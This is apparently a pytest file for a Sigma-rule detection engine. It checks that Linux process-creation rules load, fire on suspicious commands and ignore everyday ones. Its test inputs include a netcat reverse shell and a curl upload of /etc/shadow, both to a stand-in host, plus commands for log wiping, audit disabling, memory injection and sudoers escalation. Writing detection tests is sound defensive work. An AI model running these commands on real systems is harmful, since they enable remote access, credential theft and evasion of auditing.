"""The Sigma rule engine: every SigmaHQ Linux process-creation rule loads or says why not,
rules fire on what they describe and not on near misses or everyday commands, and no
rule file, however broken, makes loading raise."""

from __future__ import annotations

import shlex
from collections import Counter
from pathlib import Path

import pytest

from sshtrail.errors import ConfigError
from sshtrail.sigmarules import FIELDS, RuleSet, load_rule_file, load_rules
from tests.support.sigma import SIGMA, sigma_rules

# The CI clone has ../shared beside the repository root, as /work/main and its worktrees do.

#: Every file of the corpus that is not active, and why (the other 117 are active).
NOT_ACTIVE = {
    "proc_creation_lnx_git_shell_execution.yml": ("needs-field", "needs field ParentCommandLine"),
    "proc_creation_lnx_susp_interactive_bash.yml": ("needs-field", "needs field ParentCommandLine"),
    # ParentCommandLine in one of its ORed selections: that branch could never match.
    "proc_creation_lnx_webshell_detection.yml": ("needs-field", "needs field ParentCommandLine"),
    "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml": (
        "needs-field",
        "needs fields CurrentDirectory, LogonId",
    ),
    "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml": (
        "needs-field",
        "needs fields CurrentDirectory, LogonId",
    ),
}


@pytest.fixture(scope="module")
def corpus() -> RuleSet:
    return load_rules(sigma_rules())


def event(command: str, image: str | None = None, **more: str) -> dict[str, str]:
    """A command typed in a bash session as the alert group reports it."""
    name = shlex.split(command)[0]
    return {
        "CommandLine": command,
        "Image": image or (name if name.startswith("/") else f"/usr/bin/{name}"),
        "ParentImage": "/bin/bash",
        "User": "alice",
        **more,
    }


def fired(rules: RuleSet, command: str, image: str | None = None, **more: str) -> set[str]:
    return {Path(rule.path).stem for rule in rules.match(event(command, image, **more))}


def test_every_corpus_file_is_loaded_or_refused_with_its_reason(corpus: RuleSet) -> None:
    files = sorted(path.name for path in SIGMA.glob("*.yml"))
    assert len(files) == 122
    statuses = {Path(status.path).name: status for status in corpus.statuses}
    assert sorted(statuses) == files
    assert Counter(status.status for status in corpus.statuses) == {
        "active": 117,
        "needs-field": 5,
    }
    for name, (status, reason) in NOT_ACTIVE.items():
        assert (statuses[name].status, statuses[name].reason) == (status, reason), name
    for name, loaded_status in statuses.items():
        if name not in NOT_ACTIVE:
            assert (loaded_status.status, loaded_status.reason) == ("active", ""), name
    # What an alert credits (DRL 1.1), for every active rule.
    assert len(corpus.rules) == 117
    for rule in corpus.rules:
        assert all((rule.id, rule.title, rule.author, rule.level)), rule.path


@pytest.mark.parametrize(
    ("rule", "command", "near_miss"),
    [
        # |endswith list, and |contains
        (
            "proc_creation_lnx_apt_shell_execution",
            "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh",
            "apt-get update",
        ),
        # all of selection_*, two |re, a list of one-item maps
        ("proc_creation_lnx_susp_inod_listing", "ls -id /", "ls -i /"),
        # all of selection_*, |re is case-sensitive: -o (a log file) is not -O
        (
            "proc_creation_lnx_wget_download_suspicious_directory",
            "wget http://203.0.113.9/x -O /tmp/x",
            "wget http://203.0.113.9/x -o /tmp/wget.log",
        ),
        ("proc_creation_lnx_auditctl_clear_rules", "auditctl -D", "auditctl -d exit,always"),
        # selection and not 1 of filter_main_* (the filter case)
        (
            "proc_creation_lnx_chmod_targeting_sensitive_directories",
            "chmod 777 /tmp/payload",
            "chmod 700 /tmp/apt-key-gpghome.Xa12",
        ),
        # not 1 of filter_main_* and not 1 of filter_optional_*
        (
            "proc_creation_lnx_services_stop_and_disable",
            "systemctl stop auditd",
            "systemctl stop snap-snapd-123.service",
        ),
        # all of selection_* and not 1 of filter_optional_*, with |re
        (
            "proc_creation_lnx_susp_curl_fileupload",
            "curl -F f=@/etc/shadow https://203.0.113.9/up",
            "curl -F f=@report.pdf http://localhost:8080/up",
        ),
        # all of selection_* over long |contains lists
        (
            "proc_creation_lnx_netcat_reverse_shell",
            "nc 203.0.113.9 4444 -e /bin/bash",
            "nc -zv db 5432",
        ),
        # (a and 1 of b_*) or 1 of c_*
        ("proc_creation_lnx_clear_syslog", "rm -f /var/log/syslog", "tail -f /var/log/syslog"),
        ("proc_creation_lnx_clear_syslog", "journalctl --vacuum-time=1s", "journalctl -u ssh"),
        # |contains|all
        (
            "proc_creation_lnx_mount_hidepid",
            "mount -o remount,hidepid=2 /proc",
            "mount -o remount /",
        ),
        (
            "proc_creation_lnx_dd_process_injection",
            "dd if=shell.bin of=/proc/1234/mem bs=1 seek=4096",
            "dd if=/dev/zero of=disk.img bs=1M count=10",
        ),
        (
            "proc_creation_lnx_usermod_susp_group",
            "usermod -aG sudoers mallory",
            "usermod -aG docker bob",
        ),
        # 1 of selection_*: a command line of 200 characters or more (|re '(.){200,}')
        ("proc_creation_lnx_file_and_directory_discovery", "file " + "x/* " * 60, "file notes.txt"),
    ],
)
def test_a_rule_fires_on_what_it_describes_and_not_on_a_near_miss(
    corpus: RuleSet, rule: str, command: str, near_miss: str
) -> None:
    assert rule in fired(corpus, command)
    assert rule not in fired(corpus, near_miss)


def test_rules_on_the_parent_and_on_a_filter_field_we_cannot_know(corpus: RuleSet) -> None:
    # ParentImage: a shell that was started from /tmp/ (the session's shell is the parent).
    tmp_shell = "proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder"
    assert tmp_shell in fired(corpus, "bash", ParentImage="/tmp/.x/bash")
    assert tmp_shell not in fired(corpus, "bash")
    # Its filter is on ParentCommandLine, which we never fill: it can never excuse `who`,
    # so the rule is active and fires as written.
    assert "proc_creation_lnx_system_network_connections_discovery" in fired(corpus, "who")


#: Everyday commands that no rule of the corpus fires on. Findings, kept out on purpose
#: (informational/low discovery rules that fire on any use of the program, as written):
#: `curl https://example.com` (curl_usage, low: any curl), `uptime`, `hostname`, `uname -a`
#: (system_info_discovery), `id`, `cat /etc/passwd` (local_account), `rm -f build/out.o`
#: (file_deletion), `find . -name '*.py'` (file_and_directory_discovery), `ip addr`,
#: `ss -tlnp`, `netstat -tlnp` (system_network_discovery, ..._connections_discovery),
#: `crontab -l` (crontab_enumeration), `nano /etc/hosts` (susp_sensitive_file_access, medium).
BENIGN = [
    "ls", "ls -la", "cd /var/www", "pwd", "git status", "git log --oneline -5", "git pull",
    "vim notes.txt", "less README.md", "cat README.md", "systemctl status nginx",
    "journalctl -u nginx --since today", "grep -r foo .", "ps aux", "top", "htop", "df -h",
    "du -sh /var/log", "free -m", "tail -f /var/log/syslog", "docker ps", "docker logs web",
    "kubectl get pods", "python3 script.py", "pip list", "make", "make test", "ssh other-host",
    "scp file host:", "rsync -av src/ host:dst/", "tar xzf x.tgz",
    "wget https://example.com/file.tar.gz", "apt list --installed", "sudo apt update",
    "mkdir build", "cp a.txt b.txt", "mv old new", "echo hello", "date", "whoami", "history",
    "env", "man ls", "npm install", "go build ./...", "cargo test", "chmod +x script.sh",
    "ping -c 3 example.com", "sudo -l", "base64 file.txt", "git diff HEAD~1",
    "systemctl restart nginx",
]  # fmt: skip


def test_everyday_commands_raise_no_alert(corpus: RuleSet) -> None:
    assert len(set(BENIGN)) >= 50
    assert {command: fired(corpus, command) for command in BENIGN if fired(corpus, command)} == {}


RULE_HEAD = """\
title: A test rule
id: {id}
author: sshtrail tests
level: high
logsource:
    category: process_creation
    product: linux
"""


def rule_file(folder: Path, name: str, detection: str, n: int = 1, head: str = RULE_HEAD) -> Path:
    path = folder / f"{name}.yml"
    path.write_text(head.format(id=f"00000000-0000-4000-8000-{n:012d}") + detection)
    return path


def loaded(folder: Path, detection: str) -> RuleSet:
    for old in folder.glob("*.yml"):
        old.unlink()
    rule_file(folder, "rule", detection)
    rules = load_rules(folder)
    assert [status.reason for status in rules.statuses] == [""]
    return rules


def test_the_modifiers_and_values_the_corpus_does_not_use(tmp_path: Path) -> None:
    def hits(detection: str, **event: str) -> bool:
        return bool(loaded(tmp_path, detection).match(event))

    wildcard = "detection:\n  sel:\n    CommandLine: 'rm -?f */tmp/*'\n  condition: sel\n"
    assert hits(wildcard, CommandLine="RM -rf /var/tmp/x")
    assert not hits(wildcard, CommandLine="rm -f /var/tmp/x")
    cased = "detection:\n  sel:\n    CommandLine|cased|contains: 'Secret'\n  condition: sel\n"
    assert hits(cased, CommandLine="grep Secret x")
    assert not hits(cased, CommandLine="grep secret x")
    regex_i = "detection:\n  sel:\n    CommandLine|re|i: '^curl\\s'\n  condition: sel\n"
    assert hits(regex_i, CommandLine="CURL http://x")
    windash = "detection:\n  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n"
    assert hits(windash, CommandLine="find . /exec sh")
    null = "detection:\n  sel:\n    CommandLine|contains: x\n    User: null\n  condition: sel\n"
    assert hits(null, CommandLine="x")
    assert not hits(null, CommandLine="x", User="root")
    keyword = "detection:\n  words:\n    - 'nc -e'\n  condition: words\n"
    assert hits(keyword, CommandLine="sudo NC -e /bin/sh 1.2.3.4")
    assert not hits(keyword, Image="/usr/bin/nc -e")
    them = (
        "detection:\n  a:\n    Image|endswith: /nc\n  b:\n    User: root\n"
        "  condition: all of them\n"
    )
    assert hits(them, Image="/bin/nc", User="ROOT")
    assert not hits(them, Image="/bin/nc")
    conditions = (
        "detection:\n  a:\n    Image|endswith: /nc\n  b:\n    User: root\n"
        "  condition:\n    - a\n    - b\n"
    )
    assert hits(conditions, User="root")
    absent = "detection:\n  sel:\n    CommandLine|startswith: ls\n  condition: not sel\n"
    assert hits(absent, Image="/bin/ls")  # no CommandLine: the selection does not match


def test_a_field_we_cannot_fill_is_reported_unless_it_only_filters(tmp_path: Path) -> None:
    rule_file(
        tmp_path, "in_selection", "detection:\n  sel:\n    ProcessId: 1\n  condition: sel\n", 1
    )
    rule_file(
        tmp_path,
        "in_filter",
        "detection:\n  sel:\n    Image|endswith: /who\n  filter:\n    LogonId: 0\n"
        "  condition: sel and not filter\n",
        2,
    )
    rule_file(
        tmp_path,
        "null_in_filter",
        "detection:\n  sel:\n    Image|endswith: /who\n  filter:\n    LogonId: null\n"
        "  condition: sel and not filter\n",
        3,
    )
    statuses = {Path(s.path).stem: (s.status, s.reason) for s in load_rules(tmp_path).statuses}
    assert statuses == {
        "in_selection": ("needs-field", "needs field ProcessId"),
        "in_filter": ("active", ""),
        "null_in_filter": ("needs-field", "needs field LogonId"),
    }
    assert "ProcessId" not in FIELDS


BASE = RULE_HEAD.format(id="00000000-0000-4000-8000-000000000099")
SELECTION = "detection:\n  sel:\n    CommandLine: x\n  condition: sel\n"
GARBAGE: dict[str, tuple[bytes, str]] = {
    "not_yaml": (b"title: [unclosed\n  : :", "invalid: not one YAML document: while parsing"),
    "yaml_list": (b"- a\n- b\n", "invalid: not a Sigma rule (AttributeError: "),
    "yaml_not_a_rule": (b"hello: world\n", "invalid: Sigma rule must have a title"),
    "empty": (b"", "invalid: Sigma rule must have a title"),
    "bad_regex": (
        (BASE + "detection:\n  sel:\n    CommandLine|re: '('\n  condition: sel\n").encode(),
        "invalid: Regular expression '(' is invalid",
    ),
    "unknown_modifier": (
        (BASE + "detection:\n  sel:\n    CommandLine|frob: x\n  condition: sel\n").encode(),
        "invalid: Unknown modifier 'frob'",
    ),
    "unsupported_modifier": (
        (
            BASE + "detection:\n  sel:\n    CommandLine|cidr: 10.0.0.0/8\n  condition: sel\n"
        ).encode(),
        "invalid: modifier cidr not supported",
    ),
    "unknown_reference": (
        (BASE + SELECTION.replace("condition: sel", "condition: sel and not filter")).encode(),
        "invalid: Detection 'filter' not defined in detections",
    ),
    "unmatched_selector": (
        (BASE + SELECTION.replace("condition: sel", "condition: 1 of filter_*")).encode(),
        "invalid: Selector '1 of filter_*' doesn't match any detection",
    ),
    "not_process_creation": (
        (BASE.replace("process_creation", "file_event") + SELECTION).encode(),
        "invalid: logsource category file_event, product linux: not Linux process creation",
    ),
    "no_author": (
        (BASE.replace("author: sshtrail tests\n", "") + SELECTION).encode(),
        "invalid: no author: an alert must credit the rule (DRL 1.1)",
    ),
    "billion_laughs": (
        (
            "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
            "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
            "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n" + BASE + SELECTION.replace("x\n", "*e\n", 1)
        ).encode(),
        "invalid: YAML aliases expand to too many nodes",
    ),
    "huge": (
        (BASE + "description: " + "x" * 300_000 + "\n" + SELECTION).encode(),
        "invalid: larger than 262144 bytes: not a rule",
    ),
    "binary": (bytes(range(256)) * 8, "invalid: not UTF-8 text"),
}


@pytest.mark.parametrize("name", sorted(GARBAGE))
def test_a_broken_rule_file_is_refused_with_its_reason(tmp_path: Path, name: str) -> None:
    content, reason = GARBAGE[name]
    path = tmp_path / f"{name}.yml"
    path.write_bytes(content)
    rule, status = load_rule_file(path)
    assert rule is None
    assert (status.status, status.path) == ("invalid", str(path))
    assert status.reason.startswith(reason), status.reason


def test_broken_files_never_stop_the_others(tmp_path: Path) -> None:
    for name, (content, _) in GARBAGE.items():
        (tmp_path / f"{name}.yml").write_bytes(content)
    rule_file(tmp_path, "good", "detection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n")
    rule_file(tmp_path, "same_id", "detection:\n  sel:\n    Image: /bin/x\n  condition: sel\n")
    (tmp_path / "README.md").write_text("not a rule, not looked at")
    rules = load_rules(tmp_path)
    assert [Path(rule.path).stem for rule in rules.rules] == ["good"]
    by_name = {Path(status.path).stem: status for status in rules.statuses}
    assert len(by_name) == len(GARBAGE) + 2
    assert by_name["same_id"].reason == (
        f"invalid: id 00000000-0000-4000-8000-000000000001 already used by {tmp_path / 'good.yml'}"
    )
    assert rules.match({"Image": "/usr/bin/nc"}) == list(rules.rules)


def test_only_a_folder_that_cannot_be_read_raises(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"alerts\.rules: cannot read the rules folder"):
        load_rules(tmp_path / "missing")
    assert load_rules(tmp_path) == RuleSet((), ())
